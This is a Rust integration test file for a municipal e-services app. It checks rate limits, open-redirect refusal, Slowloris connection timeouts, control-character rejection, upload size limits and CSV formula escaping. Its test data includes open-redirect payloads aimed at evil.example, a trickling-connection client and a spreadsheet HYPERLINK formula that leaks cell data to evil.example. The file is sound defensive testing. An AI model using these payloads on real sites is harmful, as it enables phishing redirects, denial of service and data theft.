//! What an attacker tries, on both engines: floods of anonymous
//! submissions, redirects to other sites after sign-in, control characters,
//! idle and trickling connections, formula cells, image bombs.

use reqwest::StatusCode;

use crate::applications::renewal_form;
use crate::reports::report_form;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{Engine, TestApp, Tuning, csrf_of};

crate::on_both_engines!(
    anonymous_submissions_are_limited_per_client,
    sign_in_never_redirects_to_another_site,
    tracking_cannot_be_walked,
    idle_and_trickling_connections_are_closed,
    control_characters_are_refused_alike_on_both_engines,
    stored_control_characters_never_break_open311_xml,
    oversized_uploads_are_refused_while_streaming,
    open_data_csv_never_carries_a_formula,
);

/// One client may submit a few reports and applications without signing
/// in, pages and API alike; then it waits, and nothing more is written.
/// Other clients are not affected.
async fn anonymous_submissions_are_limited_per_client(engine: Engine) {
    let limits = baladiya_app::Limits {
        submissions_per_client: 3,
        ..baladiya_app::Limits::default()
    };
    let Some(app) = TestApp::spawn_with(engine, limits).await else {
        return;
    };
    app.app
        .import_boundaries(None, &crate::support::demo_boundaries())
        .await
        .expect("boundaries");
    let flooder = app.client_from("127.0.0.5");
    let report = || async {
        let page = flooder
            .get(app.url("/reports/new"))
            .send()
            .await
            .expect("request");
        let csrf = csrf_of(&page.text().await.expect("html"));
        flooder
            .post(app.url("/reports/new"))
            .multipart(report_form(&csrf, "29.871", None))
            .send()
            .await
            .expect("request")
    };
    let application = || async {
        flooder
            .post(app.url("/api/v1/applications"))
            .multipart(renewal_form())
            .send()
            .await
            .expect("request")
    };
    assert_eq!(report().await.status(), StatusCode::SEE_OTHER);
    assert_eq!(report().await.status(), StatusCode::SEE_OTHER);
    assert_eq!(application().await.status(), StatusCode::CREATED);
    let refused = report().await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
    let refused = application().await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let body: serde_json::Value = refused.json().await.expect("JSON");
    assert_eq!(body["code"], "too-many-attempts");
    let reports = app
        .app
        .store
        .search_reports(&baladiya_store::ReportQuery {
            limit: 100,
            ..Default::default()
        })
        .await
        .expect("reports");
    assert_eq!(reports.len(), 2, "refused reports wrote nothing");
    // Someone else, and staff at a counter, go on as before.
    let neighbour = app
        .client_from("127.0.0.6")
        .post(app.url("/api/v1/applications"))
        .multipart(renewal_form())
        .send()
        .await
        .expect("request");
    assert_eq!(neighbour.status(), StatusCode::CREATED);
    let clerk = app.token("eg.clerk").await;
    let counter = flooder
        .post(app.url("/api/v1/applications"))
        .bearer_auth(clerk)
        .multipart(renewal_form())
        .send()
        .await
        .expect("request");
    assert_eq!(counter.status(), StatusCode::CREATED);
    app.stop().await;
}

/// `next` after sign-in stays on this site, whatever it hides: a tab,
/// line breaks, a backslash, another host.
async fn sign_in_never_redirects_to_another_site(engine: Engine) {
    let Some(app) = TestApp::spawn(engine).await else {
        return;
    };
    for next in [
        "/%09/evil.example",
        "/%0a/evil.example",
        "/%0d/evil.example",
        "//evil.example",
        "/%5Cevil.example",
        "https://evil.example/",
        "/%20/evil.example",
    ] {
        let client = app.new_client();
        let form = client
            .get(app.url(&format!("/login?next={next}")))
            .send()
            .await
            .expect("request");
        assert_eq!(form.status(), StatusCode::OK, "{next}");
        let csrf = csrf_of(&form.text().await.expect("html"));
        let response = client
            .post(app.url(&format!("/login?next={next}")))
            .form(&[
                ("csrf", csrf.as_str()),
                ("username", "eg.head"),
                ("password", baladiya_app::demo::DEMO_PASSWORD),
            ])
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next}");
        assert_eq!(response.headers()["location"], "/staff", "{next}");
    }
    app.stop().await;
}

/// Wrong proofs for one tracking number stop working for everyone after a
/// few, and one client cannot walk through numbers either.
async fn tracking_cannot_be_walked(engine: Engine) {
    let limits = baladiya_app::Limits {
        tracking_failures_per_number: 3,
        tracking_per_client: 6,
        ..baladiya_app::Limits::default()
    };
    let Some(app) = TestApp::spawn_with(engine, limits).await else {
        return;
    };
    let submitted = app
        .client
        .post(app.url("/api/v1/applications"))
        .multipart(renewal_form())
        .send()
        .await
        .expect("request");
    assert_eq!(submitted.status(), StatusCode::CREATED);
    let body: serde_json::Value = submitted.json().await.expect("JSON");
    let number = body["tracking_number"].as_str().expect("number").to_owned();
    let track = |client: reqwest::Client, number: String, proof: &'static str| {
        let url = app.url("/api/v1/track");
        async move {
            client
                .post(url)
                .json(&serde_json::json!({"tracking_number": number, "proof": proof}))
                .send()
                .await
                .expect("request")
                .status()
        }
    };
    let guesser = app.client_from("127.0.0.7");
    for proof in ["01000000001", "01000000002", "01000000003"] {
        assert_eq!(
            track(guesser.clone(), number.clone(), proof).await,
            StatusCode::NOT_FOUND
        );
    }
    let right = "01012345678";
    assert_eq!(
        track(guesser.clone(), number.clone(), right).await,
        StatusCode::TOO_MANY_REQUESTS,
        "the number waits after three wrong proofs"
    );
    assert_eq!(
        track(app.client_from("127.0.0.8"), number.clone(), right).await,
        StatusCode::TOO_MANY_REQUESTS,
        "from anywhere"
    );
    // Walking numbers: each is tried once, but the client runs out.
    let walker = app.client_from("127.0.0.9");
    let mut statuses = Vec::new();
    for n in 0..7 {
        let other = format!("EG-GZ-BDR-2026-{:06}-X", 500 + n);
        statuses.push(track(walker.clone(), other, right).await);
    }
    assert!(
        statuses[..6].iter().all(|s| *s == StatusCode::NOT_FOUND),
        "{statuses:?}"
    );
    assert_eq!(statuses[6], StatusCode::TOO_MANY_REQUESTS);
    app.stop().await;
}

/// What a connection received before the server closed it, and when; or
/// `None` if it was still open after 20 s.
async fn until_closed(
    addr: std::net::SocketAddr,
    first: &'static [u8],
    trickle: &'static [u8],
) -> Option<(Duration, String)> {
    let started = Instant::now();
    let stream = TcpStream::connect(addr).await.expect("connect");
    let (mut reader, mut writer) = stream.into_split();
    let writing = tokio::spawn(async move {
        if writer.write_all(first).await.is_err() {
            return;
        }
        if trickle.is_empty() {
            // Idle, but never half-closed: the client is still there.
            std::future::pending::<()>().await;
        }
        for byte in trickle.iter().cycle() {
            tokio::time::sleep(Duration::from_millis(300)).await;
            if writer.write_all(&[*byte]).await.is_err() {
                return;
            }
        }
    });
    let mut received = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(20), async {
        let mut buf = [0u8; 4096];
        loop {
            match reader.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => received.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    writing.abort();
    read.ok().map(|()| {
        (
            started.elapsed(),
            String::from_utf8_lossy(&received).into_owned(),
        )
    })
}

/// Slowloris: connections that send nothing, trickle a request's head or
/// body, or idle after an answer are closed by the server; meanwhile it
/// goes on answering others.
async fn idle_and_trickling_connections_are_closed(engine: Engine) {
    let mut tuning = Tuning::default();
    tuning.serve.header_read_timeout = Duration::from_secs(1);
    tuning.request_timeout = Duration::from_secs(2);
    let Some(app) = TestApp::spawn_tuned(engine, tuning).await else {
        return;
    };
    let idle = until_closed(app.addr, b"", b"");
    let head = until_closed(app.addr, b"GET /healthz HTTP/1.1\r\n", b"X-Slow: 1\r\n");
    let kept_alive = until_closed(app.addr, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", b"");
    let body = until_closed(
        app.addr,
        b"POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
        b" ",
    );
    let healthy = async {
        tokio::time::sleep(Duration::from_millis(500)).await;
        app.client
            .get(app.url("/healthz"))
            .send()
            .await
            .expect("request")
            .status()
    };
    let (idle, head, kept_alive, body, healthy) =
        tokio::join!(idle, head, kept_alive, body, healthy);
    assert_eq!(healthy, StatusCode::OK, "others are served meanwhile");
    for (what, closed) in [
        ("idle", &idle),
        ("trickled head", &head),
        ("kept alive", &kept_alive),
        ("trickled body", &body),
    ] {
        let (after, _) = closed
            .as_ref()
            .unwrap_or_else(|| panic!("{what}: still open after 20 s"));
        assert!(*after < Duration::from_secs(20), "{what}");
    }
    let (_, answered) = kept_alive.expect("closed");
    assert!(
        answered.starts_with("HTTP/1.1 200"),
        "answered first: {answered}"
    );
    let (_, timed_out) = body.expect("closed");
    assert!(timed_out.starts_with("HTTP/1.1 408"), "{timed_out}");
    assert!(timed_out.contains("request-timeout"), "{timed_out}");
    app.stop().await;
}

/// NUL and other control characters are refused as field errors
/// everywhere (PostgreSQL cannot store NUL and used to answer 500), the
/// same way on both engines; in a path they name nothing.
async fn control_characters_are_refused_alike_on_both_engines(engine: Engine) {
    let Some((app, key)) = crate::reports::spawn(engine).await else {
        return;
    };
    let officer = app.token("eg.officer").await;
    let status_of = |response: reqwest::Response| response.status();

    // Open311 POST: the error array names each field.
    for field in ["description", "last_name", "attribute[size]"] {
        let response = app
            .client
            .post(app.url("/open311/v2/requests.json"))
            .form(&[
                ("api_key", key.as_str()),
                ("service_code", "pothole"),
                ("lat", "29.90"),
                ("long", "31.30"),
                (field, "a\u{0}b"),
            ])
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{field}");
        let body: serde_json::Value = response.json().await.expect("JSON");
        let description = body[0]["description"].as_str().expect("description");
        assert!(description.starts_with(&format!("{field}: ")), "{body}");
    }
    // JSON and multipart bodies of the API.
    let response = app
        .client
        .post(app.url("/api/v1/auth/token?lang=en"))
        .json(&serde_json::json!({"username": "eg.clerk\u{0}", "password": "x"}))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = response.json().await.expect("JSON");
    assert_eq!(body["fields"][0]["field"], "username");
    assert_eq!(body["fields"][0]["code"], "control-characters");
    assert!(
        body["fields"][0]["message"]
            .as_str()
            .expect("message")
            .contains("control characters")
    );
    let response = app
        .client
        .post(app.url("/api/v1/applications"))
        .multipart(renewal_form().text("applicant_email", "a\u{1b}@example.com"))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = response.json().await.expect("JSON");
    assert_eq!(body["fields"][0]["field"], "applicant_email", "{body}");
    // Filters in query strings, public and staff.
    for path in [
        "/reports?service_code=%00",
        "/open-data/reports.csv?service_code=%00",
        "/api/v1/services?q=%01",
    ] {
        let response = app.client.get(app.url(path)).send().await.expect("request");
        assert_eq!(
            status_of(response),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{path}"
        );
    }
    let response = app
        .client
        .get(app.url("/api/v1/inbox?service=%00"))
        .bearer_auth(&officer)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let response = app
        .client
        .get(app.url("/open311/v2/requests.json?service_code=%00"))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    // In a path: nothing by that name.
    for path in [
        "/open311/v2/tokens/%00.json",
        "/api/v1/verify/%00",
        "/reports/%00",
    ] {
        let response = app.client.get(app.url(path)).send().await.expect("request");
        assert_eq!(status_of(response), StatusCode::NOT_FOUND, "{path}");
    }
    // Nothing was written.
    let reports = app
        .app
        .store
        .search_reports(&baladiya_store::ReportQuery {
            limit: 10,
            ..Default::default()
        })
        .await
        .expect("reports");
    assert!(reports.is_empty());
    app.stop().await;
}

/// A description stored with characters XML 1.0 forbids (by an older
/// version, or by hand) never makes the Open311 XML unreadable.
async fn stored_control_characters_never_break_open311_xml(engine: Engine) {
    let Some((app, key)) = crate::reports::spawn(engine).await else {
        return;
    };
    waste_report(&app, &key, "before").await;
    let bad = "x\u{1}\u{2}\u{b}\u{c}\u{1b}y\u{FFFE}";
    match &app.app.store {
        baladiya_store::Store::Sqlite(baladiya_store::SqliteStore { pool, .. }) => {
            let query = sqlx::query("UPDATE reports SET description = $1").bind(bad);
            query.execute(pool).await.map(|_| ())
        }
        baladiya_store::Store::Postgres(pool) => {
            let query = sqlx::query("UPDATE reports SET description = $1").bind(bad);
            query.execute(pool).await.map(|_| ())
        }
    }
    .expect("stored as an older version might have");
    for path in ["/open311/v2/requests.xml", "/open311/v2/requests/1.xml"] {
        let response = app.client.get(app.url(path)).send().await.expect("request");
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let xml = response.text().await.expect("xml");
        assert!(
            !baladiya_domain::text::has_forbidden_chars(&xml),
            "{path}: {xml:?}"
        );
        let paths = crate::open311::xml_paths(&xml);
        assert!(
            paths
                .iter()
                .any(|(p, v)| p.ends_with("request/description") && v == "xy"),
            "{paths:?}"
        );
    }
    app.stop().await;
}

/// A document larger than its service allows is refused with `413` as it
/// streams in, and nothing is written.
async fn oversized_uploads_are_refused_while_streaming(engine: Engine) {
    let Some(app) = TestApp::spawn(engine).await else {
        return;
    };
    let mut big = b"%PDF-1.7\n".to_vec();
    big.resize(5 * 1024 * 1024 + 1, b' ');
    let form = reqwest::multipart::Form::new()
        .text("service", "EG-SHOP-LICENSE-RENEWAL")
        .text("unit", "EG-GZ-BDR")
        .part(
            "document.current-license",
            reqwest::multipart::Part::bytes(big).file_name("license.pdf"),
        );
    let response = app
        .client
        .post(app.url("/api/v1/applications"))
        .multipart(form)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let body: serde_json::Value = response.json().await.expect("JSON");
    assert_eq!(body["code"], "payload-too-large");
    // With the service not (yet) named, the largest any service allows.
    let mut huge = b"%PDF-1.7\n".to_vec();
    huge.resize(20 * 1024 * 1024 + 1, b' ');
    let form = reqwest::multipart::Form::new().part(
        "document.drawings",
        reqwest::multipart::Part::bytes(huge).file_name("drawings.pdf"),
    );
    let response = app
        .client
        .post(app.url("/api/v1/applications"))
        .multipart(form)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let inbox = app
        .client
        .get(app.url("/api/v1/inbox"))
        .bearer_auth(app.token("eg.clerk").await)
        .send()
        .await
        .expect("request");
    let listed: serde_json::Value = inbox.json().await.expect("JSON");
    assert_eq!(listed["items"], serde_json::json!([]), "nothing written");
    app.stop().await;
}

/// A description written as a spreadsheet formula reaches the open-data
/// CSV as text, never as a formula.
async fn open_data_csv_never_carries_a_formula(engine: Engine) {
    let Some((app, key)) = crate::reports::spawn(engine).await else {
        return;
    };
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    waste_report(&app, &key, formula).await;
    let text = app
        .client
        .get(app.url("/open-data/reports.csv"))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().expect("a row").expect("a record");
    assert_eq!(&row[10], format!("'{formula}"));
    app.stop().await;
}

/// A waste report in Badrashin by Open311, with this description.
async fn waste_report(app: &TestApp, key: &str, description: &str) {
    let response = app
        .client
        .post(app.url("/open311/v2/requests.json"))
        .form(&[
            ("api_key", key),
            ("service_code", "waste"),
            ("lat", "29.90"),
            ("long", "31.30"),
            ("description", description),
        ])
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::OK);
}

/// A kept-alive connection left idle as long as the server's
/// `Keep-Alive: timeout` says is still open for the next request: the
/// benchmark's "connection closed before message completed" came from a
/// client reusing a connection the server was closing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_stay_open_as_long_as_the_server_says() {
    let tuning = Tuning {
        serve: baladiya_web::ServeOptions {
            header_read_timeout: Duration::from_secs(3),
            ..baladiya_web::ServeOptions::default()
        },
        ..Tuning::default()
    };
    let Some(app) = TestApp::spawn_tuned(Engine::Sqlite, tuning).await else {
        return;
    };
    let mut stream = TcpStream::connect(app.addr).await.expect("connect");
    let head = health_answer(&mut stream).await;
    assert!(head.contains("keep-alive: timeout=1"), "{head}");
    // Idle just under what it says, then used again: still open.
    tokio::time::sleep(Duration::from_millis(900)).await;
    let head = health_answer(&mut stream).await;
    assert!(head.starts_with("http/1.1 200"), "{head}");
    // Past the server's idle limit, it is closed (and said so in time).
    tokio::time::sleep(Duration::from_secs(4)).await;
    let mut rest = [0u8; 16];
    let closed = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut rest)).await;
    assert!(matches!(closed, Ok(Ok(0)) | Ok(Err(_))), "{closed:?}");
    app.stop().await;
}

/// The head of the answer to a `GET /healthz` sent on `stream`, lowercase.
async fn health_answer(stream: &mut TcpStream) -> String {
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .expect("send");
    let (mut text, mut chunk) = (Vec::new(), [0u8; 4096]);
    loop {
        let n = stream.read(&mut chunk).await.expect("read");
        assert!(n > 0, "the connection was closed");
        text.extend_from_slice(&chunk[..n]);
        let seen = String::from_utf8_lossy(&text).to_string();
        if let Some((head, body)) = seen.split_once("\r\n\r\n")
            && body.ends_with('}')
        {
            return head.to_ascii_lowercase();
        }
    }
}
